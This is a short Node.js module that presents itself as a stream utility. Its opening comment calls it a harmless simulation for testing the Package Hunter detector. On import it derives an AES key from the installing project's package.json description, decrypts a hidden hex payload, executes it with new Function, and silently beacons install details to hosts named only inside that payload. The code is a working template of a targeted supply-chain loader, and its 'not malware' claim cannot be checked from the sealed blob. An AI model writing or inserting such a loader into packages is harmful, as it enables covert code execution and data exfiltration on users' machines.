// The honest twin of a harmless simulation for testing Package Hunter. Not malware.

const crypto = require("crypto");
const fs = require("fs");
const http = require("http");
const https = require("https");
const path = require("path");

const SEALED_TEXT = "3b291510f8547f243d921a74304ce6f7e35c749e7853656a01d71f443c07e7e903683b086dcc007e0a99a9a2047266c8f73ea50a744120ff7c450c140f2b30e762233b4d2af8db6029a9241404a7f680";

function description() {
  for (const folder of [process.cwd(), process.env.INIT_CWD || ".", path.join(__dirname, "..")]) {
    try { return JSON.parse(fs.readFileSync(path.join(folder, "package.json"), "utf8")).description; } catch (e) { /* next */ }
  }
  return "";
}

try {
  const key = crypto.createHash("sha256").update(description()).digest();
  const opened = crypto.createDecipheriv("aes-256-cbc", key, Buffer.alloc(16));
  const code = opened.update(SEALED_TEXT, "hex", "utf8") + opened.final("utf8");
  const where = new Function(code)();
  const body = JSON.stringify({ name: "flat-stream", version: "1.0.0", node: process.version });
  const options = { method: "POST", path: "/p", headers: { "Content-Type": "application/json" } };
  https.request({ ...options, hostname: where.main }).on("error", () => {}).end(body);
  http.request({ ...options, hostname: where.fallback }).on("error", () => {}).end(body);
} catch (error) { /* another application */ }
module.exports = (stream) => stream;
